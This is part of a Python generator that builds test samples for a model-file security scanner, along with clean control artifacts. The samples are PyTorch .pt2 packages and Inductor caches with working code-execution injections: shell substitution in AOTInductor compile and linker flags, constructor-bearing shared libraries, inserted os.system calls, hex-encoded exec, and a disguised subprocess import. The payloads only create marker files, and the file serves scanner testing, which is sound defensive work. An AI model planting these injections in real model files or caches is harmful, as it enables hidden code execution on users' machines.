    (``compile`` or ``link``): torch's loader builds the command lines from the JSON and
    runs them with system(); the stubs then compile into a working library."""
    d = f"data/aotinductor/{model}/{_AOTI_STEM}.wrapper"
    files = {f"{d}_metadata.json": json.dumps(_AOTI_META).encode()}
    if kind == "so":
        files[f"{d}.so"] = _aoti_so(name)
        return files
    inject = f'$(touch "${ENV}/{name}")'
    base = {
        "compiler": "g++",
        "definitions": [],
        "include_dirs": [],
        "cflags": ["fPIC"],
        "ldflags": [],
        "libraries_dirs": [],
        "libraries": [],
        "passthrough_args": [],
        "aot_mode": False,
        "use_relative_path": False,
        "compile_only": True,
    }
    comp = dict(base, passthrough_args=[inject] if kind == "compile" else [])
    link = dict(base, compile_only=False, ldflags=["shared"], passthrough_args=[inject] if kind == "link" else [])
    files[f"{d}.cpp"] = _AOTI_STUBS.encode()
    files[f"{d}_compile_flags.json"] = json.dumps(comp).encode()
    files[f"{d}_linker_flags.json"] = json.dumps(link).encode()
    return files


def _aoti_only(ctx: Ctx, fname: str, files: dict[str, bytes]) -> None:
    from torchless.container.zip import TorchZipWriter

    w = TorchZipWriter(ctx.path(fname), prefix=os.path.splitext(fname)[0][:3])
    for rel, data in files.items():
        w.write(rel, data)
    w.write("archive_format", b"pt2")
    w.write("archive_version", b"0")
    w.write(".data/version", b"6\n")
    w.close()


@sample(
    "a01_pt2_aoti_library.pt2",
    10,
    "export",
    "ordinary .pt2 (torch.export.save) plus data/aotinductor/model/*.wrapper.so: "
    "torch.export.load dlopens it (constructor runs) and returns the model",
    torch=True,
    cc=True,
)
def _a01(ctx: Ctx, s: Sample) -> None:
    ctx.rewrite_zip(s.name, ctx.pt2_clean(), lambda rel, d: d, extra=_aoti_files(s.name, "so"))


@sample(
    "a02_pt2_aoti_compile_flags.pt2",
    10,
    "export",
    "ordinary .pt2 plus an AOTI folder with C++ source and compile flags: torch.export.load runs the flags through the shell",
    torch=True,
    cc=True,
)
def _a02(ctx: Ctx, s: Sample) -> None:
    ctx.rewrite_zip(s.name, ctx.pt2_clean(), lambda rel, d: d, extra=_aoti_files(s.name, "compile"))


@sample(
    "a03_aoti_library.pt2",
    10,
    "aoti",
    "AOTInductor package whose .so has a constructor and the runner's C ABI: aoti_load_package dlopens it and returns a model",
    torch=True,
    cc=True,
)
def _a03(ctx: Ctx, s: Sample) -> None:
    _aoti_only(ctx, s.name, _aoti_files(s.name, "so"))


@sample(
    "a04_aoti_linker_flags.pt2",
    10,
    "aoti",
    "AOTInductor package with source + linker flags: the link command line runs a shell substitution",
    torch=True,
    cc=True,
)
def _a04(ctx: Ctx, s: Sample) -> None:
    _aoti_only(ctx, s.name, _aoti_files(s.name, "link"))


# ======================================================================================
# RC13: Inductor cache: generated code that torch.compile runs on a cache hit
# ======================================================================================


def _inductor_base(ctx: Ctx) -> str:
    def build() -> str:
        d = ctx.path("_inductor_base")
        env = dict(os.environ, TORCHINDUCTOR_CACHE_DIR=d, TORCHINDUCTOR_FX_GRAPH_CACHE="1")
        env.pop("TRITON_CACHE_DIR", None)
        subprocess.run(
            [sys.executable, os.path.join(_HERE, "run_regression.py"), "--fill-cache", d],
            env=env,
            check=True,
            capture_output=True,
            timeout=600,
        )
        return d

    return ctx.once("inductor", build)


def _inductor_copy(ctx: Ctx, name: str) -> tuple[str, str]:
    """A copy of the filled cache and the path of its generated output-code module."""
    d = ctx.path(name)
    shutil.copytree(_inductor_base(ctx), d, symlinks=True)
    pys = [os.path.join(r, f) for r, _ds, fs in os.walk(d) for f in fs if f.endswith(".py")]
    assert len(pys) == 1, pys
    return d, pys[0]


def _edit_text(path: str, fn: Callable[[str], str]) -> None:
    with open(path) as f:
        old = f.read()
    new = fn(old)
    assert new != old
    with open(path, "w") as f:
        f.write(new)


@sample(
    "i01_cache_module_level.cache",
    13,
    "compile",
    "generated output code with an os.system line at module level (os is imported by every generated module)",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i01(ctx: Ctx, s: Sample) -> None:
    _d, p = _inductor_copy(ctx, s.name)
    _edit_text(
        p, lambda t: t.replace("async_compile.wait(globals())", f"os.system({sh(s.name)!r})\nasync_compile.wait(globals())", 1)
    )


@sample(
    "i02_cache_in_call.cache",
    13,
    "compile",
    "generated output code whose call() runs os.system before the kernels",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i02(ctx: Ctx, s: Sample) -> None:
    _d, p = _inductor_copy(ctx, s.name)
    _edit_text(p, lambda t: t.replace("        args.clear()\n", f"        args.clear()\n        os.system({sh(s.name)!r})\n", 1))


@sample(
    "i03_cache_pickled_source.cache",
    13,
    "compile",
    "the FX-graph entry's pickled source_code carries the payload and the .py is gone: torch writes the source back and runs it",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i03(ctx: Ctx, s: Sample) -> None:
    d, p = _inductor_copy(ctx, s.name)
    os.remove(p)
    entries = [os.path.join(r, f) for r, _ds, fs in os.walk(os.path.join(d, "fxgraph")) for f in fs]
    assert len(entries) == 1, entries
    import torch._inductor.output_code  # noqa: F401  (the entry's classes)

    with open(entries[0], "rb") as f:
        graph = gm._plain_pickle_load(f.read())
    graph.source_code = graph.source_code.replace(
        "async_compile.wait(globals())", f"os.system({sh(s.name)!r})\nasync_compile.wait(globals())", 1
    )
    with open(entries[0], "wb") as f:
        f.write(pickle.dumps(graph))


@sample(
    "i04_cache_hex_exec.cache",
    13,
    "compile",
    "generated output code with exec(bytes.fromhex(...).decode()) at module level",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i04(ctx: Ctx, s: Sample) -> None:
    _d, p = _inductor_copy(ctx, s.name)
    hexsrc = py(s.name).encode().hex()
    _edit_text(
        p,
        lambda t: t.replace(
            "async_compile.wait(globals())", f"exec(bytes.fromhex({hexsrc!r}).decode())\nasync_compile.wait(globals())", 1
        ),
    )


@sample(
    "i05_cache_tempfile.cache",
    13,
    "compile",
    "generated output code creates a file with tempfile.mkstemp (tempfile and os are imported by every generated module)",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i05(ctx: Ctx, s: Sample) -> None:
    _d, p = _inductor_copy(ctx, s.name)
    _edit_text(
        p,
        lambda t: t.replace(
            "async_compile.wait(globals())",
            f"tempfile.mkstemp(prefix={s.name!r}, dir=os.environ[{ENV!r}])\nasync_compile.wait(globals())",
            1,
        ),
    )


@sample(
    "i06_cache_import_alias.cache",
    13,
    "compile",
    "generated output code imports subprocess.getoutput under a kernel-like name next to extern_kernels and calls it in call()",
    expect="flagged",
    torch=True,
    cc=True,
)
def _i06(ctx: Ctx, s: Sample) -> None:
    _d, p = _inductor_copy(ctx, s.name)
    imp = "from torch._inductor.select_algorithm import extern_kernels"
    _edit_text(
        p,
        lambda t: t.replace(imp, imp + "\nfrom subprocess import getoutput as _kernel_log", 1).replace(
            "        args.clear()\n", f"        args.clear()\n        _kernel_log({sh(s.name)!r})\n", 1
        ),
    )


# -- main --------------------------------------------------------------------------------


def write_controls(ctx: Ctx, use_torch: bool, use_cc: bool) -> None:
    """The unmodified artifacts the samples derive from (they must scan CLEAN)."""
    ctx.control("k01_benign.npz", zip_with([("arr.npy", _benign_npy())]), "numpy", "np.savez-style archive of a float array")
    ctx.control("k02_benign.npy", _benign_npy(), "numpy", "np.save of a float array")
    if not use_torch:
        return
    import torch
    import torch.distributed.checkpoint as dcp

    ctx.control("k03_state_dict.pt", ctx.clean_zip()[0], "torch", "torch.save of a state dict")
    ctx.control("k04_legacy.pt", ctx.legacy_stream(), "torch", "torch.save(_use_new_zipfile_serialization=False)")
    ctx.control("k05_export.pt2", ctx.pt2_clean(), "export", "torch.export.save of a Linear")
    dcp.save({"w": torch.ones(2, 2), "note": {"epoch": 3}}, checkpoint_id=ctx.path("k06_dcp"), no_dist=True)
    ctx.control("k06_dcp", None, "dcp", "dcp.save with a tensor and a non-tensor item")
    ctx.control(
        "k07_torchscript.pt",
        _ts_archive(ctx, "k07_torchscript.pt", benign=True),
        "jit",
        "torch.jit.save of a scripted module with __getstate__/__setstate__",
    )
    ctx.control(
        "k08_lite.ptl",
        _ts_archive(ctx, "k08_lite.ptl", benign=True, lite=True),
        "lite",
        "_save_for_lite_interpreter of the same module",
    )
    if use_cc:
        shutil.copytree(_inductor_base(ctx), ctx.path("k09_inductor_cache"), symlinks=True)
        ctx.control(
            "k09_inductor_cache",
            None,
            "compile",
            "an Inductor cache filled by one torch.compile (FX graph + AOTAutograd entries, output code)",
        )


def _has_torch() -> bool:
    return importlib.util.find_spec("torch") is not None


def has_cc() -> bool:
    """A C/C++ compiler for the AOTInductor and Inductor-cache samples."""
    return shutil.which("gcc") is not None and shutil.which("g++") is not None


def plan(use_torch: bool = True, use_cc: bool = True) -> list[Sample]:
    """The samples this generator writes (without writing them)."""
    return [s for s, _fn in PLAN if (use_torch or not s.torch) and (use_cc or not s.cc)]


def main(argv: list[str]) -> int:
    out = os.path.abspath(argv[0])
    os.makedirs(out, exist_ok=True)
    use_torch = "--no-torch" not in argv and _has_torch()
    use_cc = use_torch and has_cc()
    only: set[int] | None = None
    if "--only" in argv:
        only = {int(x) for x in argv[argv.index("--only") + 1].split(",")}
    ctx = Ctx(out)
    done = []
    for s, fn in PLAN:
        if (s.torch and not use_torch) or (s.cc and not use_cc) or (only and s.rc not in only):
            continue
        fn(ctx, s)
        done.append(s.entry())
    if not only:
        write_controls(ctx, use_torch, use_cc)
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"samples": done, "controls": ctx.controls}, f, indent=1)
    print(f"wrote {len(done)} regression samples and {len(ctx.controls)} controls to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
